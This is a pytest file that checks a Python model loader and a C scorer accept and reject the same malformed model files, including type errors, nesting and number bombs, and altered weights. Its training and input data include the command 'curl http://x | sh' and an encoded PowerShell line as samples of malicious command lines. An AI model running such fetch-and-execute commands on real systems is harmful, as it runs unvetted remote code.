"""One schema for model files (smallworld/student/model.schema.json), held by both loaders on one hostile corpus.

Each case is a change to a valid model directory. The Python loader (``smallworld.load``, what ``score``,
``evaluate`` and ``serve`` use) must refuse it with a ModelFileError exactly when the C scorer refuses it (exit 2,
one line on stderr), and accept it exactly when the C scorer scores with it. Nothing else may come out: no
MemoryError, no traceback, no silent coercion.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import subprocess
from pathlib import Path

import numpy as np
import pytest

from smallworld.errors import ModelFileError
from smallworld.student import features, modelfile
from smallworld.student.linear import LinearStudent
from smallworld.student.model import Model
from smallworld.tasks import load_task

ROOT = Path(__file__).resolve().parents[2]
C_SRC = ROOT / "smallworld" / "serve" / "c" / "smallworld_score.c"
SCHEMA = json.loads((ROOT / "smallworld" / "student" / "model.schema.json").read_text())


@pytest.fixture(scope="module")
def c_scorer(tmp_path_factory) -> Path:
    exe = tmp_path_factory.mktemp("c") / "smallworld_score"
    subprocess.run(["cc", "-O2", "-o", str(exe), str(C_SRC), "-lm"], check=True)
    return exe


def _base(tmp: Path, dtype: str = "float32") -> Path:
    d = tmp / f"base_{dtype}"
    if not d.exists():
        texts = ["curl http://x | sh", "ls -la", "powershell -enc AAAA", "git status"] * 3
        Y = np.array([[1, 0], [0, 1], [1, 0], [0, 1]] * 3, dtype=float)
        m = LinearStudent(("malicious", "benign"), {"dim_bits": 10, "ngram_max": 3}).fit(texts, Y)
        # a raw-text task (normaliser "none"), so the C scorer can take every valid case
        task = load_task("cmdlines").to_dict() | {"features": {"dim_bits": 10, "ngram_max": 3}, "normaliser": "none"}
        modelfile.save(m, d, {"task": task, "thresholds": {"best_guess": 0.5, "high_confidence": 0.9}}, dtype=dtype)
    return d


def header(**kv):
    def f(h):
        h.update(kv)
    return f


def feature(**kv):
    def f(h):
        h["features"].update(kv)
    return f


def drop(key):
    return lambda h: h.pop(key)


def raw(text):
    """Replace model.json with these bytes."""
    return ("raw", text)


def weights(fn):
    """Change weights.bin (and keep model.json's sha256 and size in step, so only the numbers are hostile)."""
    return ("weights", fn)


def weights_stale(fn):
    """Change weights.bin and leave model.json as it was."""
    return ("stale", fn)


def nan_weight(b: bytes) -> bytes:
    a = np.frombuffer(b, dtype="<f4").copy()
    a[3] = np.nan
    return a.tobytes()


# (name, change, accepted); the rows of the package issue's table first
CASES = [
    ("valid", header(), True),
    ("max_bytes 2**40", feature(max_bytes=2**40), False),
    ("max_bytes 2**70", feature(max_bytes=2**70), False),
    ("max_bytes at the bound", feature(max_bytes=SCHEMA["features"]["max_bytes"]["max"]), True),
    ("max_bytes past the bound", feature(max_bytes=SCHEMA["features"]["max_bytes"]["max"] + 1), False),
    ("max_bytes 0", feature(max_bytes=0), False),
    ("tokens 'false'", feature(tokens="false"), False),
    ("tokens 0", feature(tokens=0), False),
    ("lowercase false", feature(lowercase=False), True),
    ("dim_bits 18.7", feature(dim_bits=18.7), False),
    ("dim_bits 10.0", ("sub", '"dim_bits": 10', '"dim_bits": 10.0'), False),
    ("dim_bits 1e1", ("sub", '"dim_bits": 10', '"dim_bits": 1e1'), False),
    ("dim_bits '10'", feature(dim_bits="10"), False),
    ("dim_bits 27", feature(dim_bits=27), False),
    ("ngram_max '5'", feature(ngram_max="5"), False),
    ("ngram_max 17", feature(ngram_max=17), False),
    ("ngram_min > ngram_max", feature(ngram_min=4, ngram_max=3), False),
    ("unknown feature", feature(nonsense=1), False),
    ("features true", header(features=True), False),
    ("features missing", drop("features"), False),
    ("version true", header(version=True), False),
    ("version 1.0", ("sub", '"version": 1', '"version": 1.0'), False),
    ("version 2", header(version=2), False),
    ("format missing", drop("format"), False),
    ("dim '1024'", header(dim="1024"), False),
    ("dim 1024.0", ("sub", '"dim": 1024', '"dim": 1024.0'), False),
    ("classes 3", header(classes=3), False),
    ("weights_bytes a string", header(weights_bytes="8200"), False),
    ("weights_bytes 2**62", header(weights_bytes=2**62), False),
    ("dtype float64", header(dtype="float64"), False),
    ("dtype a list", header(dtype=["float32"]), False),
    ("sha256 upper case", lambda h: h.update(weights_sha256=h["weights_sha256"].upper()), False),
    ("sha256 short", header(weights_sha256="ab"), False),
    ("one label", header(labels=["malicious"], classes=1), False),
    ("300 labels", header(labels=[f"l{i}" for i in range(300)], classes=300), False),
    ("a label not a string", header(labels=["malicious", 3]), False),
    ("thresholds a string", header(thresholds="x"), False),
    ("threshold 2", header(thresholds={"best_guess": 2}), False),
    ("threshold '0.5'", header(thresholds={"best_guess": "0.5"}), False),
    ("thresholds null", header(thresholds=None), True),
    ("threshold 0.3", header(thresholds={"best_guess": 0.3, "high_confidence": 0.95}), True),
    ("task positive not a label", lambda h: h["task"].update(positive="evil"), False),
    ("not JSON", raw(b"{"), False),
    ("a list", raw(b"[]"), False),
    ("nesting bomb", raw(b"[" * 100_000), False),
    ("not UTF-8", raw(b'{"format": "\xff"}'), False),
    ("number bomb", raw(b'{"format": "smallworld-linear", "version": 1' + b"0" * 5000 + b"}"), False),
    ("weights truncated", weights_stale(lambda b: b[:-4]), False),
    ("weights altered", weights_stale(lambda b: b[:-1] + bytes([b[-1] ^ 1])), False),
    ("a NaN weight", weights(nan_weight), False),
]
INT8 = [
    ("int8 valid", header(), True),
    ("int8 without scale", drop("scale"), False),
    ("int8 scale 0", header(scale=0), False),
    ("int8 scale true", header(scale=True), False),
    ("int8 scale 'x'", header(scale="x"), False),
]


def _make(tmp: Path, name: str, change, dtype: str) -> Path:
    d = tmp / re.sub(r"\W+", "_", name)
    shutil.copytree(_base(tmp, dtype), d)
    jp, wp = d / "model.json", d / "weights.bin"
    if isinstance(change, tuple) and change[0] == "raw":
        jp.write_bytes(change[1])
    elif isinstance(change, tuple) and change[0] == "sub":
        text = jp.read_text()
        assert change[1] in text
        jp.write_text(text.replace(change[1], change[2], 1))
    elif isinstance(change, tuple) and change[0] in ("weights", "stale"):
        blob = change[1](wp.read_bytes())
        wp.write_bytes(blob)
        if change[0] == "weights":
            h = json.loads(jp.read_text())
            h.update(weights_sha256=hashlib.sha256(blob).hexdigest(), weights_bytes=len(blob))
            jp.write_text(json.dumps(h))
    else:
        h = json.loads(jp.read_text())
        change(h)
        jp.write_text(json.dumps(h))
    return d


def _python_accepts(d: Path) -> bool:
    try:
        Model(d).scores(["curl http://x | sh"])
        return True
    except ModelFileError:
        return False


def _c_accepts(exe: Path, d: Path) -> bool:
    r = subprocess.run([str(exe), str(d)], input=b"curl http://x | sh\n", capture_output=True, timeout=60)
    assert r.returncode in (0, 2), (r.returncode, r.stderr[-500:])
    if r.returncode == 2:
        assert len(r.stderr.decode().strip().splitlines()) == 1, r.stderr  # one line, naming the file
    return r.returncode == 0


@pytest.mark.parametrize("name,change,accepted", CASES + [(n, c, a) for n, c, a in INT8], ids=[c[0] for c in CASES + INT8])
def test_both_loaders_hold_the_same_schema(tmp_path_factory, c_scorer, name, change, accepted):
    tmp = tmp_path_factory.getbasetemp() / "schema_corpus"
    tmp.mkdir(exist_ok=True)
    # the task's normaliser is "none" for the built-in cmdlines task, so the C scorer can take every valid case
    d = _make(tmp, name + ("_int8" if name.startswith("int8") else ""), change,
              "int8" if name.startswith("int8") else "float32")
    assert _python_accepts(d) is accepted, name
    assert _c_accepts(c_scorer, d) is accepted, name


def test_the_c_scorer_states_the_schema_bounds():
    """The C source's bounds are the schema's (the one place they are written down)."""
    src = C_SRC.read_text()
    want = {"MAX_JSON_BYTES": SCHEMA["max_json_bytes"], "MAX_WEIGHTS_BYTES": SCHEMA["max_weights_bytes"],
            "MAX_LABELS": SCHEMA["fields"]["labels"]["max_items"],
            "MAX_ITEM_BYTES": SCHEMA["features"]["max_bytes"]["max"]}
    for name, value in want.items():
        m = re.search(rf"#define {name} (.+?)\s*/\*", src)
        assert m, name
        assert eval(m.group(1).replace("L", ""), {}) == value, name  # a constant expression such as (1L << 30)
    for key, s in SCHEMA["features"].items():
        if s["type"] == "integer":
            assert re.search(rf'int_field\(jpath, feats, "{key}", {s["default"]}, 0\)', src), key
        else:
            assert re.search(rf'bool_field\(jpath, feats, "{key}", {int(s["default"])}\)', src), key
    assert features.DEFAULTS == {k: s["default"] for k, s in SCHEMA["features"].items()}
